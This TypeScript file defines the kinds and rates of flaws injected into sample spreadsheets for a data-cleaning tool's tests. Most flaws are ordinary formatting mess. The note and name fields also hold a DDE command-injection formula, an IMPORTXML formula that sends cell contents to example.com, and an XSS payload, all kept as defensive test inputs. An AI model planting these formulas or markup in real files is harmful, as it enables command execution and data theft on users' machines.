import type { Bilingual } from '../../core/index';

/** The two samples. */
export type SampleName = 'chineseShop' | 'englishB2B';

/** Where dirt is put: of the kinds of one place a row gets at most one. */
export type DirtPlace =
  | 'order.kind' // what the row is
  | 'order.date'
  | 'order.amount' // how a positive amount is written
  | 'order.negative' // how a negative amount is written
  | 'order.phone'
  | 'order.customer' // how an id of digits alone is written
  | 'order.note'
  | 'customer.person' // a further row for a person who is already there
  | 'customer.name'
  | 'customer.gender'
  | 'customer.age'
  | 'customer.phone'
  | 'customer.email'
  | 'customer.industry'
  | 'customer.role'
  | 'customer.region'
  | 'customer.idCard'
  | 'sheet';

/** One kind of dirt: the requirement or the safety list's entry that names it, and its share of the place's rows.
 *  A kind with `texts` is put in by writing one of them. */
export interface DirtKind {
  readonly id: string;
  readonly place: DirtPlace;
  readonly samples: readonly SampleName[];
  /** Requirement numbers (47-72, C1-C32) and, as #n, entries of the bad-input list in the safety notes. */
  readonly source: string;
  readonly rate: number;
  readonly name: Bilingual;
  readonly texts?: readonly string[];
}

const BOTH = ['chineseShop', 'englishB2B'] as const;
const SHOP = ['chineseShop'] as const;
const B2B = ['englishB2B'] as const;

function kind<const Id extends string>(
  id: Id,
  place: DirtPlace,
  samples: readonly SampleName[],
  source: string,
  rate: number,
  zh: string,
  en: string,
  texts?: readonly string[],
): DirtKind & { readonly id: Id } {
  const core = { id, place, samples, source, rate, name: { zh, en } };
  return texts === undefined ? core : { ...core, texts };
}

/** Every kind of dirt in the samples, with its rate. Every kind appears at least once from 1,000 order rows on. */
// prettier-ignore
export const DIRT = [
  kind('exactDuplicate', 'order.kind', BOTH, '48, 51', 0.006, '整行完全重复', 'The whole row once more'),
  kind('refundKeyword', 'order.kind', SHOP, 'C14', 0.008, '负数金额，备注写明退款', 'A negative row whose note says refund'),
  kind('refundPlain', 'order.kind', BOTH, 'C14', 0.003, '负数金额，没有说明，但与之前的订单金额相同', 'A negative row without a word, as large as an earlier order'),
  kind('refundInvoice', 'order.kind', B2B, 'C14', 0.008, '以 C 开头的红字发票', 'A credit invoice whose number begins with C'),
  kind('refundStatus', 'order.kind', BOTH, 'C14', 0.012, '状态为已退款', 'A status that says refunded'),
  kind('cancelledStatus', 'order.kind', BOTH, 'C14', 0.02, '状态为已取消', 'A status that says cancelled'),
  kind('unexplainedNegative', 'order.kind', BOTH, '59, 60', 0.001, '金额 -100，没有原因', 'An amount of -100 without a reason'),
  kind('futureDate', 'order.kind', BOTH, 'C31, #60', 0.001, '日期在分析日之后', 'A date after the day of analysis'),
  kind('impossibleDate', 'order.kind', BOTH, '#57', 0.001, '不存在的日期', 'A day that does not exist', ['2026-02-30', '2025-02-29', '2026-13-01']),
  kind('dateWords', 'order.kind', BOTH, '64', 0.0005, '日期格里是文字', 'Words where a date belongs', ['待定', 'TBC', '上个月']),
  kind('missingDate', 'order.kind', BOTH, '51', 0.001, '缺日期', 'No date', ['', '-', 'N/A']),
  kind('timeOnly', 'order.kind', BOTH, '#62', 0.0003, '只有时间没有日期', 'A time without a date', ['08:30', '14:05']),
  kind('negativeSerial', 'order.kind', BOTH, '#56', 0.0003, '负的日期序号', 'A negative date serial'),
  kind('amountWords', 'order.kind', BOTH, '64', 0.0005, '金额格里是文字', 'Words where an amount belongs', ['面议', 'TBD', 'see quote']),
  kind('missingAmount', 'order.kind', BOTH, '55', 0.001, '缺金额', 'No amount', ['', '-', 'NULL', '空']),
  kind('amountError', 'order.kind', BOTH, '#64', 0.0003, '金额为错误值 #REF!', 'The error value #REF! as amount'),
  kind('amountInfinite', 'order.kind', BOTH, '#49', 0.0002, '数值溢出的文本', 'Text of a number too large to hold', ['1e309', 'Infinity', 'NaN']),
  kind('outlier', 'order.kind', BOTH, '61, C15', 0.0005, '金额达到均值的 10 倍以上', 'An amount of ten times the mean or more'),
  kind('missingCustomerId', 'order.kind', BOTH, '49', 0.003, '缺客户编号，手机号还在', 'No customer id, but a phone'),
  kind('noCustomer', 'order.kind', BOTH, '57', 0.001, '客户编号和联系方式都没有', 'Neither customer id nor contact'),

  kind('dateIso', 'order.date', BOTH, '65, #59', 0.12, '文本日期 2024-01-15', 'Text date 2024-01-15'),
  kind('dateDots', 'order.date', SHOP, '65', 0.08, '2024.1.15', '2024.1.15'),
  kind('dateSlashes', 'order.date', SHOP, '65', 0.1, '2024/1/5', '2024/1/5'),
  kind('dateChinese', 'order.date', SHOP, '65', 0.06, '2024年1月5日', '2024年1月5日'),
  kind('dateCompact', 'order.date', BOTH, '65', 0.03, '20240115', '20240115'),
  kind('dateWithTime', 'order.date', BOTH, '65', 0.08, '带时间的文本 2024-01-15 08:30', 'Text with time 2024-01-15 08:30'),
  kind('dateFullWidth', 'order.date', SHOP, '65', 0.01, '全角数字的日期', 'A date in full-width digits'),
  kind('dateMidnight', 'order.date', BOTH, '#58', 0.001, '24:00 结尾的日期', 'A date that ends in 24:00'),
  kind('dateChineseNumerals', 'order.date', SHOP, '#61', 0.001, '二〇二六年一月五日', 'A date in Chinese numerals'),
  kind('dateRepublicEra', 'order.date', SHOP, '#61', 0.0005, '民国纪年', 'A year of the Republic of China'),
  kind('dateUnstyled', 'order.date', BOTH, '#53', 0.005, '常规格式里的日期序号', 'A date serial in a cell without date format'),
  kind('dateTimeSerial', 'order.date', BOTH, '65', 0.05, '带时间的日期序号', 'A date serial with a time'),
  kind('dateDayMonth', 'order.date', B2B, '65', 0.08, '日/月/年，日大于 12', 'Day/month/year, the day above 12'),
  kind('dateAmbiguous', 'order.date', B2B, '#52', 0.004, '日和月分不清的 03/04/2026', '03/04/2026: day and month cannot be told apart'),
  kind('dateMonthName', 'order.date', B2B, '65', 0.05, '英文月份 15 Jan 2026', '15 Jan 2026'),

  kind('amountText', 'order.amount', BOTH, '60', 0.1, '文本金额 1234.50', 'Text amount 1234.50'),
  kind('amountGrouped', 'order.amount', BOTH, '#48', 0.06, '带千分位的文本 1,234.50', 'Text with thousands 1,234.50'),
  kind('amountYen', 'order.amount', SHOP, '#48', 0.06, '¥1,234.50', '¥1,234.50'),
  kind('amountWideYen', 'order.amount', SHOP, '#48', 0.02, '全角货币符号 ￥1,234.50', 'Full-width sign ￥1,234.50'),
  kind('amountYuan', 'order.amount', SHOP, '#48', 0.05, '1,234.5元', '1,234.5元'),
  kind('amountWan', 'order.amount', SHOP, '#48', 0.01, '1.2万', '1.2万 (ten thousands)'),
  kind('amountFullWidth', 'order.amount', SHOP, '#48', 0.005, '全角数字的金额', 'An amount in full-width digits'),
  kind('amountDollar', 'order.amount', B2B, 'C31', 0.08, '$1,234.50', '$1,234.50'),
  kind('amountCode', 'order.amount', B2B, 'C31', 0.02, 'USD 1234.50', 'USD 1234.50'),
  kind('amountPound', 'order.amount', B2B, 'C31', 0.005, '£1,234.50（另一种货币）', '£1,234.50 (another currency)'),
  kind('amountEuro', 'order.amount', B2B, 'C31', 0.005, '€1,234.50（另一种货币）', '€1,234.50 (another currency)'),
  kind('amountDecimalComma', 'order.amount', B2B, '#47', 0.002, '小数点写成逗号 1.234,50', 'A decimal comma 1.234,50'),
  kind('amountSpaced', 'order.amount', BOTH, '66', 0.01, '金额两侧有空格', 'An amount between spaces'),
  kind('negativeParentheses', 'order.negative', BOTH, '#48', 0.3, '括号表示的负数 (300.00)', 'A negative in parentheses (300.00)'),
  kind('negativeText', 'order.negative', BOTH, '#48', 0.2, '文本负数 -300.00', 'Text negative -300.00'),

  kind('phonePrefix', 'order.phone', BOTH, '#12', 0.06, '带国家代码', 'With the country code'),
  kind('phoneZeros', 'order.phone', BOTH, '#13', 0.01, '带 0086 / 001', 'With 0086 / 001'),
  kind('phoneSpaces', 'order.phone', BOTH, '66', 0.06, '号码里有空格', 'Spaces inside the number'),
  kind('phoneDashes', 'order.phone', BOTH, '66', 0.06, '号码里有短横线', 'Dashes inside the number'),
  kind('phoneFullWidth', 'order.phone', BOTH, '#14', 0.005, '全角数字的号码', 'Full-width digits'),
  kind('phoneLeadingZero', 'order.phone', SHOP, '#20', 0.005, '号码前多一个 0', 'A zero before the number'),
  kind('phoneNumber', 'order.phone', BOTH, '#11', 0.08, '号码存成了数字', 'The phone as a number cell'),
  kind('phoneTooLong', 'order.phone', BOTH, '#17', 0.003, '多打了一位', 'One digit too many'),
  kind('phoneBlank', 'order.phone', BOTH, '55', 0.02, '缺手机号', 'No phone', ['', '-', '无', 'N/A']),

  kind('customerPhonePrefix', 'customer.phone', BOTH, '#12', 0.06, '客户手机号带国家代码', 'Customer phone with the country code'),
  kind('customerPhoneSpaces', 'customer.phone', BOTH, '66', 0.06, '客户手机号里有空格', 'Customer phone with spaces'),
  kind('customerPhoneNumber', 'customer.phone', BOTH, '#11', 0.08, '客户手机号存成了数字', 'Customer phone as a number cell'),
  kind('customerPhoneTwo', 'customer.phone', BOTH, '#15', 0.005, '一格两个号码', 'Two numbers in one cell'),
  kind('customerPhoneLandline', 'customer.phone', SHOP, '#16', 0.005, '座机加分机', 'A landline with an extension'),
  kind('customerPhoneExtension', 'customer.phone', B2B, '#16', 0.02, '号码带分机', 'A number with an extension'),
  kind('customerPhoneNegative', 'customer.phone', BOTH, '#19', 0.002, '号码前有负号', 'A minus before the number'),
  kind('customerPhoneExponent', 'customer.phone', BOTH, '#18', 0.002, '科学计数法的文本', 'Text in scientific notation'),
  kind('customerPhoneShared', 'customer.phone', BOTH, 'C18', 0.004, '多人共用一个号码', 'One number shared by several people'),
  kind('customerPhoneBlank', 'customer.phone', BOTH, '57', 0.01, '客户缺手机号', 'Customer without a phone', ['', '-', '无', 'N/A', 'NULL', '未知', '空']),
  kind('customerNoContact', 'customer.phone', BOTH, '57', 0.005, '手机号和邮箱都缺', 'Neither phone nor e-mail'),

  kind('idAsNumber', 'order.customer', BOTH, '#95', 0.1, '编号的前导零丢失，存成了数字', 'An id whose leading zeros are gone: a number cell'),
  kind('idSpaces', 'order.customer', BOTH, '66', 0.01, '编号两侧有空格', 'Spaces around the id'),

  kind('noteFormula', 'order.note', BOTH, '#21', 0.001, '像公式的文本', 'Text that looks like a formula', ['=1+1', '+张三', '@x', '-', '=SUM(A1:A9)']),
  kind('noteCommand', 'order.note', BOTH, '#22-24', 0.0005, '像命令的文本', 'Text that looks like a command', ["=cmd|'/c calc'!A1", '@SUM(A1)', '＝HYPERLINK("http://example.com")', '=IMPORTXML("http://example.com?"&A1)']),
  kind('noteControl', 'order.note', BOTH, '#26, #27', 0.0005, '制表符或换行后跟等号', 'A tab or line feed before an equals sign', ['\t=1', '\n=1']),
  kind('noteMarkup', 'order.note', BOTH, '#41, #42', 0.0005, '像网页代码的文本', 'Text that looks like markup', ['<img src=x onerror=alert(1)>', '_x000D_', '<b>VIP</b>']),
  kind('noteLines', 'order.note', BOTH, '#40', 0.0005, '一格里很多换行', 'Many line feeds in a cell', [`a${'\n'.repeat(300)}b`]),

  kind('personNewPhone', 'customer.person', BOTH, '47', 0.02, '同一人换了手机号，设备号或邮箱相同', 'The same person with another phone and the same device or e-mail'),
  kind('personOtherStaff', 'customer.person', BOTH, '48', 0.02, '同一人由不同员工各录一次', 'The same person typed in by two members of staff'),
  kind('personTraditional', 'customer.person', SHOP, '#44', 0.008, '同一人，姓氏一简一繁（张/張），手机号不同', 'The same person with a simplified and a traditional surname and another phone'),
  kind('personCompanySpelling', 'customer.person', B2B, '49', 0.02, '同一企业，名称写法不同', 'The same company, spelled in another way'),

  kind('nameSpaces', 'customer.name', BOTH, '66', 0.01, '名称两侧有空格', 'Ordinary spaces around the name'),
  kind('nameIdeographicSpace', 'customer.name', BOTH, '66, #31', 0.008, '名称旁有全角空格', 'An ideographic space beside the name'),
  kind('nameNoBreakSpace', 'customer.name', BOTH, '66, #31', 0.008, '名称旁有不间断空格', 'A no-break space beside the name'),
  kind('nameZeroWidth', 'customer.name', BOTH, '66, #30', 0.005, '名称旁有零宽空格', 'A zero-width space beside the name'),
  kind('nameInnerSpace', 'customer.name', BOTH, '66', 0.01, '名称中间多了空格', 'A surplus space inside the name'),
  kind('nameEmoji', 'customer.name', BOTH, '#33', 0.004, '名称带表情', 'An emoji in the name'),
  kind('nameFormula', 'customer.name', BOTH, '#24', 0.002, '名称像公式', 'A name that looks like a formula', ['=1+1', '+张三', '@x']),
  kind('nameRare', 'customer.name', BOTH, '#32, #34', 0.002, '生僻字或方向控制符', 'Rare characters or a direction mark', ['𠮷田测试', '\u202Eelpmas', 'Zoë\u0301 Sample']),
  kind('nameBlank', 'customer.name', BOTH, '54, #30', 0.005, '缺名称或只有空白标记', 'No name, or a mark for blank', ['', '-', '无', 'N/A', 'NULL', '未知', '空', '\u200B']),
  kind('nameMasked', 'customer.name', SHOP, '27, C29', 0.005, '匿名的称呼', 'A masked form of address', ['*先生', '*女士']),

  kind('genderPolite', 'customer.gender', SHOP, 'C21', 0.1, '先生/女士', '先生/女士'),
  kind('genderLetter', 'customer.gender', BOTH, 'C21', 0.1, 'M/F', 'M/F'),
  kind('genderDigit', 'customer.gender', BOTH, 'C21', 0.04, '1/0', '1/0'),
  kind('genderWord', 'customer.gender', BOTH, '67', 0.05, '男性/女性、Mr/Ms', '男性/女性, Mr/Ms'),
  kind('genderBlank', 'customer.gender', BOTH, '54', 0.04, '缺性别', 'No gender', ['', '未知', '-', 'N/A']),

  kind('ageZero', 'customer.age', BOTH, '60', 0.005, '年龄 0', 'Age 0'),
  kind('ageTwoHundred', 'customer.age', BOTH, '59', 0.003, '年龄 200', 'Age 200'),
  kind('ageBirthYear', 'customer.age', BOTH, 'C13', 0.01, '填成了出生年份', 'The birth year instead of the age'),
  kind('ageText', 'customer.age', BOTH, '68', 0.05, '文本年龄', 'The age as text'),
  kind('ageBlank', 'customer.age', BOTH, '54', 0.04, '缺年龄', 'No age', ['', '未知', 'NULL']),

  kind('emailUpper', 'customer.email', BOTH, '48', 0.03, '邮箱大写', 'An e-mail in capitals'),
  kind('emailSpaces', 'customer.email', BOTH, '66', 0.02, '邮箱里有空格', 'Spaces in an e-mail'),
  kind('emailTypo', 'customer.email', BOTH, '64', 0.005, '域名拼错 gmial.com', 'A misspelled domain, gmial.com'),
  kind('emailDomainTypo', 'customer.email', BOTH, '64', 0.005, '域名拼错 exmaple.com', 'A misspelled domain, exmaple.com'),
  kind('emailBroken', 'customer.email', BOTH, '64', 0.005, '邮箱不完整', 'An incomplete e-mail'),
  kind('emailBlank', 'customer.email', BOTH, '56', 0.1, '缺邮箱', 'No e-mail', ['', '-', '无', 'N/A', 'NULL']),

  kind('industryPersonal', 'customer.industry', BOTH, '62', 0.02, '行业写成“个人”', 'The industry given as 个人 / Personal', ['个人', 'Personal']),
  kind('industryAlias', 'customer.industry', BOTH, '69, C25', 0.1, '行业的俗称', 'An everyday name of the industry'),
  kind('industryBlank', 'customer.industry', BOTH, '57', 0.04, '缺行业', 'No industry', ['', '-', '无', 'N/A', 'NULL', '未知', '空']),

  kind('roleFreeText', 'customer.role', BOTH, '72, C28', 0.2, '角色写法不统一', 'A role in free words'),
  kind('roleBlank', 'customer.role', BOTH, '55', 0.06, '缺联系人角色或职业', 'No role or occupation', ['', '-', '未知', 'N/A']),

  kind('regionShort', 'customer.region', BOTH, '70, C26', 0.12, '地区简称', 'The region in short'),
  kind('regionCity', 'customer.region', BOTH, '70, C26', 0.12, '只有城市', 'Only the city'),
  kind('regionSeparated', 'customer.region', BOTH, '70', 0.06, '用符号分隔的地区', 'The region with separators'),
  kind('regionAddress', 'customer.region', BOTH, '70', 0.08, '整个地址写在一格', 'The whole address in one cell'),
  kind('regionBlank', 'customer.region', BOTH, '53', 0.03, '缺地区，可由 IP 补全', 'No region; the IP address may tell', ['', '-', '未知', '空']),

  kind('idCardBadCheck', 'customer.idCard', SHOP, '#5', 0.001, '校验位错误的证件号', 'An id number with a wrong check digit'),
  kind('idCardBadDate', 'customer.idCard', SHOP, '#6', 0.001, '证件号里的日期不存在', 'An id number with an impossible date'),
  kind('idCardSpaced', 'customer.idCard', SHOP, '#7', 0.001, '证件号里有空格', 'An id number with spaces'),
  kind('idCardLowerX', 'customer.idCard', SHOP, '#3', 0.001, '以小写 x 结尾的证件号', 'An id number that ends in a small x'),
  kind('idCardFifteen', 'customer.idCard', SHOP, '#4', 0.001, '15 位证件号', 'A 15-digit id number'),
  kind('idCardNumber', 'customer.idCard', SHOP, '#1', 0.001, '证件号存成数字，末位已丢失', 'An id number as a number cell: digits are lost'),
  kind('idCardExponent', 'customer.idCard', SHOP, '#2', 0.001, '科学计数法的证件号', 'An id number in scientific notation', ['9.90101199003079E+17']),
  kind('idCardOther', 'customer.idCard', SHOP, '#10', 0.001, '其他证件', 'Another kind of id', ['E00000000', 'H00000000', 'T0000000']),
  kind('bankCardNumber', 'customer.idCard', SHOP, '#9', 0.001, '银行卡号存成数字', 'A bank card as a number cell'),

  kind('titleAboveHeader', 'sheet', SHOP, '#70, #86', 1, '表头上方有合并的标题行', 'A merged title line above the header'),
  kind('headerLineBreak', 'sheet', SHOP, '#71', 1, '表头里有换行', 'A line break in a heading'),
  kind('totalRow', 'sheet', BOTH, '#78', 1, '末尾有合计行', 'A total row at the bottom'),
  kind('blankRows', 'sheet', BOTH, '#79', 1, '中间有空行', 'Blank rows in the middle'),
] as const;

/** The id of a kind of dirt. */
export type DirtId = (typeof DIRT)[number]['id'];
